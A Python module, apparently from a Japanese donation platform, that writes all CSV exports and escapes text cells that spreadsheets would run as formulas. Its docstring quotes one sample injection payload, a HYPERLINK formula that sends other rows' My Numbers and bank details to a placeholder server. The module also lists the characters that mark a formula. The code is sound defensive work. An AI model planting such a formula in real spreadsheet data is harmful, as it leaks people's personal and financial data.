"""CSV files for people: every CSV the platform hands out is written here, and only here.

Staff and businesses open these files in Excel (or LibreOffice), which runs a cell that starts
with `=`, `+`, `-` or `@` as a formula: a donor named `=HYPERLINK("http://x/?"&H2&H3,"確認")`
would send other rows (My Numbers, bank accounts) to a stranger's server when clicked. So:

- A text cell that starts with = + - @, a tab or a carriage return gets a leading apostrophe
  (OWASP's advice for CSV injection): the spreadsheet shows it as text and evaluates nothing.
- Numbers are written as numbers: an `int` or `Decimal` cell is never changed, so a negative
  amount (a refund, a city share below zero) stays a number a spreadsheet can add up. Only
  text is neutralised; a number written as text ("-5000") is text and gets the apostrophe.
- The encoding a city's Excel opens without asking: UTF-8 with a BOM and CRLF lines (the
  default), or Shift_JIS (CP932) for carriers' older label tools. CP932 cannot hold every
  character: the caller makes text CP932-safe first (services/fulfilment/shipping_csv.py reports what it
  replaced), and a character still left raises instead of being lost silently.

A test (tests/security/test_csv_injection.py) reads the code of every module and fails when one
writes CSV without this module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

# What a spreadsheet reads as the start of a formula (OWASP: CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ENCODINGS = ("utf-8", "cp932")

Cell = str | int | Decimal | None


def neutralise(value: Cell) -> str | int | Decimal:
    """The cell as written: text that a spreadsheet would evaluate gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):  # a bool is an int: say yes/no in words instead
        raise TypeError("a CSV cell is text or a number, not a bool")
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    raise TypeError(f"a CSV cell is str, int or Decimal, not {type(value).__name__}")


def restore(value: str) -> str:
    """A cell of one of our files read back (an upload of an edited export): the text as it was
    before `neutralise`."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def write(
    header: Sequence[str], rows: Iterable[Sequence[Cell]], *, encoding: str = "utf-8"
) -> bytes:
    """The file's bytes: header first, CRLF lines, every cell through `neutralise`."""
    if encoding not in ENCODINGS:
        raise ValueError(f"unsupported encoding {encoding!r}")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(value) for value in row] for row in rows)
    text = out.getvalue()
    if encoding == "cp932":
        return text.encode("cp932")
    return text.encode("utf-8-sig")
